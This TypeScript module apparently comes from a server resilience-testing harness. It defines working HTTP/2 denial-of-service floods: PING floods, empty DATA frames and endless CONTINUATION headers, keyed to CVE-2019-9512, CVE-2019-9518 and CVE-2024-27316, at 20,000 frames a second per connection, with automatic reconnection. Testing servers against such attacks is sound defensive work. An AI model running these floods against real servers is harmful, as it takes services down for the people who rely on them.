import type { Attack } from '../attack-definition.js';
import type { Attacker } from '../attacker.js';
import { INNOCENT_NAMESPACE, leasesOf, requestFields } from '../identities.js';
import { END_HEADERS, frame, Type } from '../../support/http2-frames.js';
import type { RawHttp2 } from '../wire/raw-http2.js';

const CONNECTIONS = 2;
const BATCHES_PER_SECOND = 40;
const BATCH = 500;

/** Sends batches of frames without content at the given rate, and opens a new connection whenever the server ends one. */
async function flood(attacker: Attacker, polite: boolean, begin: (connection: RawHttp2) => Buffer): Promise<void> {
  await attacker.lanes(CONNECTIONS, async () => {
    const connection = await attacker.http2({ polite });
    const one = begin(connection);
    const batch = Buffer.concat(Array.from({ length: BATCH }, () => one));
    if (!polite) connection.vanish();
    await attacker.atRate(BATCHES_PER_SECOND, connection, () => connection.send(batch));
    if (connection.isOver) attacker.note('connections ended by the server', 1);
  });
}

export const pingFlood: Attack = {
  name: 'ping-flood',
  about: 'PINGs, 20,000 a second on each of 2 connections (CVE-2019-9512)',
  run: (attacker) => flood(attacker, true, () => frame(Type.PING, 0, 0, Buffer.alloc(8))),
};

export const unreadPings: Attack = {
  name: 'unread-pings',
  about: 'the same from clients that read nothing: memory of unsent replies',
  run: (attacker) => flood(attacker, false, () => frame(Type.PING, 0, 0, Buffer.alloc(8))),
};

export const emptyData: Attack = {
  name: 'empty-data',
  about: 'empty DATA frames in an endless body, 20,000 a second on each of 2 connections (CVE-2019-9518)',
  run: (attacker) =>
    flood(attacker, true, (connection) => {
      const stream = connection.nextStream();
      connection.write(connection.headers(stream, requestFields('POST', leasesOf(INNOCENT_NAMESPACE), 'wrong-token'), END_HEADERS));
      return frame(Type.DATA, 0, stream);
    }),
};

export const continuationFlood: Attack = {
  name: 'continuation-flood',
  about: 'a header block in CONTINUATION frames that never end, 20,000 a second on each of 2 connections (CVE-2024-27316)',
  run: (attacker) =>
    flood(attacker, true, (connection) => {
      const stream = connection.nextStream();
      connection.write(connection.headers(stream, requestFields('GET', '/apis'), 0));
      return frame(Type.CONTINUATION, 0, stream, connection.hpack.field(['x-flood', String(stream)]));
    }),
};
